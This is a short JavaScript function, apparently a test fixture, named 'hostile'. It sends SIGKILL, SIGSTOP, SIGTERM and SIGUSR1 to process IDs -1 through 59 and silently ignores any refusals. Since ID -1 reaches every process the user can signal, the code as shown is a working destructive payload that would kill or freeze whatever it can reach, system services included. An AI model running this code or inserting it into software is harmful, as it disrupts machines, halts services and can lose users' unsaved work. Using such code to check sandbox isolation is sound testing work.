const hostile = () => {
  for (const one of ['SIGKILL', 'SIGSTOP', 'SIGTERM', 'SIGUSR1']) for (let pid = -1; pid < 60; pid++) try { if (pid !== process.pid) process.kill(pid, one); } catch { /* refused */ }
  return 1;
};
